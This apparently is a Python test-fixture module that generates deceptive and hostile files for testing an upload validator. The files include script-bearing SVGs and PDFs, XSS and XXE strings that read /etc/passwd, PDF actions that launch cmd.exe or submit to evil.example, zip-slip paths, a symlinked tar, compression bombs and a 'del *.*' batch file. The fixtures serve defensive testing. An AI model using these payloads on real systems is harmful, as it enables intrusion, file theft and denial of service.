"""Files that are nothing one may offer, archives and documents that grow, and PDFs that do things."""

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
from collections.abc import Iterator

from tests.reviews.artifacts import pictures

_SCRIPT = "<script>alert(document.domain)</script>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
_SVGS = {
    "a script": _SCRIPT,
    "a script of elsewhere": '<script href="https://evil.example/x.js"/>',
    "a foreign object": f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{_SCRIPT}</body></foreignObject>",
    "a use of elsewhere": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "an animation": '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
    "a handler": '<rect onclick="alert(1)" width="9" height="9"/>',
    "a style": "<style>@import url(https://evil.example/x.css)</style>",
    "a picture of elsewhere": '<image href="file:///etc/passwd"/>',
    "a frame": '<iframe src="javascript:alert(1)"/>',
    "a set": '<set attributeName="onmouseover" to="alert(1)"/>',
}
_MARKUP = {
    "HTML": f"<!DOCTYPE html>{_SCRIPT}",
    "HTML behind spaces": f"\n\t  <html>{_SCRIPT}",
    "HTML behind a byte-order mark": f"\ufeff<HTML>{_SCRIPT}",
    "HTML without a frame": _SCRIPT,
    "XHTML": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{_SCRIPT}</html>',
    "an external entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "a billion laughs": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>',
    "a style sheet with a script": '<?xml-stylesheet type="text/xsl" href="#a"?><x/>',
    "MathML": f"<math>{_SCRIPT}</math>",
    "a frame": "<iframe src=javascript:alert(1)>",
}
_OTHERS = {
    "a Java class": b"\xca\xfe\xba\xbe\0\0\0\x34", "WebAssembly": b"\0asm\1\0\0\0", "Flash": b"CWS\x0a\0\0\0\0",
    "a Windows program": b"MZ\x90\0\3\0\0\0", "a shortcut": b"L\0\0\0\1\x14\2\0", "an ELF program": b"\x7fELF\2\1\1",
    "a shell script": b"#!/bin/sh\nid\n", "a batch file": b"@echo off\r\ndel *.*\r\n\0", "a BMP": b"BM\x36\0\0\0",
    "a TIFF": b"II*\0\x08\0\0\0", "a TIFF of the other order": b"MM\0*\0\0\0\x08", "a BigTIFF": b"II+\0\x08\0\0\0",
    "an icon": b"\0\0\1\0\1\0", "a cursor": b"\0\0\2\0\1\0", "PostScript": b"%!PS-Adobe-3.0\n(id) run\n\0",
    "Photoshop": b"8BPS\0\1", "DjVu": b"AT&TFORM\0\0\0\x20DJVM", "a metafile": b"\xd7\xcd\xc6\x9a\0\0",
    "an enhanced metafile": b"\1\0\0\0\x6c\0\0\0 EMF", "AVIF": b"\0\0\0\x20ftypavif", "HEIC": b"\0\0\0\x18ftypheic",
    "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n", "JPEG XL": b"\xff\x0a\0", "a TGA": b"\0\0\2\0\0\0\0\0\0\0\0\0\1\0\1\0\x18\0",
    "an MP4": b"\0\0\0\x20ftypisom", "WebM": b"\x1aE\xdf\xa3", "Ogg": b"OggS\0\2", "a WAV": b"RIFF\x24\0\0\0WAVEfmt ",
    "an AVI": b"RIFF\x24\0\0\0AVI LIST", "an MP3": b"ID3\4\0\0", "SQLite": b"SQLite format 3\0", "a pickle": b"\x80\4\x95\0\0",
    "an old Office document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "RTF": b"{\\rtf1\\object\\objupdate\0}", "a font": b"\0\1\0\0\0\x0c",
    "a web font": b"wOFF\0\1\0\0", "a mail": b"From: a\r\nContent-Type: text/html\r\n\r\n\0" + _SCRIPT.encode(),
    "EICAR": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$\0EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "nothing but nuls": b"\0" * 9000,
    "one byte": b"\x89", "UTF-16": _SCRIPT.encode("utf-16"), "UTF-32": _SCRIPT.encode("utf-32"), "UTF-7": b"+ADw-script+AD4-\xff",
    "half a character": b"# PRD \xf0\x9f\x98", "overlong UTF-8": b"\xc0\xbcscript\xc0\xbe", "a surrogate": b"# \xed\xa0\x80",
    "escape sequences": b"\x1b]0;x\x07\x1b[2J", "backspaces": b"# PRD\x08\x08\x08evil", "a Netpbm": b"P6 99999 99999 255\n\0",
    "a PCX": b"\x0a\5\1\x08\0\0", "a DDS": b"DDS \x7c\0\0\0", "a sun raster": b"\x59\xa6\x6a\x95\0", "a FITS": b"SIMPLE  =\0",
}  # fmt: skip
_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog {}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
_ACTIONS = {
    "a script": b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
    "a program that it starts": b"/OpenAction<</S/Launch/F(cmd.exe)>>",
    "an address that it opens": b"/OpenAction<</S/URI/URI(javascript:alert(1))>>",
    "a form that it sends": b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>",
    "another file that it opens": b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>",
    "a file in it": b"/Names<</EmbeddedFiles<</Names[(x.exe)2 0 R]>>>>",
    "an XFA form": b"/AcroForm<</XFA(<script>alert(1)</script>)>>",
    "a catalogue that leads to itself": b"/Pages 1 0 R",
    "an encryption": b"/Encrypt 9 0 R",
    "markup in its title": b"/Title(<script>alert(1)</script>)",
}


def strangers() -> Iterator[tuple[str, str, bytes]]:
    """(what it is, a name that lies, the file)."""
    for what, inside in _SVGS.items():
        yield f"SVG with {what}", "screen.png", _SVG.format(inside).encode()
    yield "SVG that is compressed", "screen.svgz", gzip.compress(_SVG.format(_SCRIPT).encode(), mtime=0)
    for what, text in _MARKUP.items():
        yield what, "prd.md", text.encode()
    for what, content in _OTHERS.items():
        yield what, "screen.png", content + b"\0" * 20
    for kind in ("BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "JPEG2000", "EPS", "PDF", "AVIF"):
        yield f"a real {kind}", "screen.png", pictures.encoded(pictures.drawn((32, 32)), kind)


def archives() -> Iterator[tuple[str, str, bytes]]:
    """Never opened, whatever they hold."""
    zeros = b"\0" * 10_000_000
    yield "a gzip of 10 MB", "prd.md", gzip.compress(zeros, mtime=0)
    yield "a gzip of a gzip", "prd.md", gzip.compress(gzip.compress(zeros, mtime=0), mtime=0)
    yield "a bzip2 of 10 MB", "prd.md", bz2.compress(zeros)
    yield "an xz of 10 MB", "prd.md", lzma.compress(zeros, preset=0)
    for what, names in {
        "a path upwards": ["../../../etc/cron.d/x"], "an absolute path": ["/etc/passwd"], "a drive": ["C:\\x.exe"],
        "ten thousand files": [f"{number}" for number in range(10_000)], "one name ten times": ["x"] * 10,
    }.items():  # fmt: skip
        yield f"a ZIP with {what}", "screens.zip", _zip(names)
    for what, names in {
        "a Word document": ["[Content_Types].xml", "word/document.xml"],
        "a jar": ["META-INF/MANIFEST.MF"],
    }.items():
        yield what, "prd.docx", _zip(names)
    inner = _zip(["a"])
    for _ in range(4):
        inner = _zip(["nested.zip"], inner)
    yield "a ZIP in a ZIP in a ZIP", "screens.zip", inner
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as tar:
        link = tarfile.TarInfo("x")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(link)
    yield "a tar with a link", "screens.tar", target.getvalue()


def pdfs() -> Iterator[tuple[str, str, bytes]]:
    for what, action in _ACTIONS.items():
        yield f"PDF with {what}", "prd.pdf", _PDF.replace(b"{}", action)
    yield "PDF without an end", "prd.pdf", b"%PDF-1.7\n" + b"1 0 obj" * 50
    yield "PDF behind something else", "prd.pdf", b"hello " + _PDF
    yield "PDF with markup behind it", "prd.pdf", _PDF + _SCRIPT.encode()
    yield "PDF that is mostly an archive", "prd.pdf", b"%PDF-1.7\n" + _zip(["x.htm"], _SCRIPT.encode()) + b"\n%%EOF"
    yield (
        "PDF with a stream of 10 MB",
        "prd.pdf",
        b"%PDF-1.7\n" + gzip.compress(b"\0" * 10_000_000, mtime=0) + b"\n%%EOF",
    )
    yield "PDF that says it is a picture", "prd.png", _PDF


def _zip(names: list[str], content: bytes = b"<script>alert(1)</script>") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, name in enumerate(names):
            archive.writestr(zipfile.ZipInfo(name if names.count(name) == 1 else f"{name}{number}"), content)
    return target.getvalue()
